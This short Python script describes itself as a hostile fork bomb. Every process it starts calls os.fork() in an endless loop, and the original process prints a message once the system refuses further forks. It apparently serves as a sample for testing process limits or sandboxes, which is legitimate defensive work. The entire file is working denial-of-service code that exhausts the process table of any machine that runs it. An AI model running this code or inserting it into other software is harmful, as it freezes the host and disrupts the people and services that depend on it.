"""Hostile: a fork bomb. Every process forks forever; nothing stops by itself."""

import os
import time

original = os.getpid()
told = False
while True:
    try:
        os.fork()
    except OSError as exc:
        if os.getpid() == original and not told:
            print(f"fork refused: {os.strerror(exc.errno)}", flush=True)
            told = True
        time.sleep(0.01)
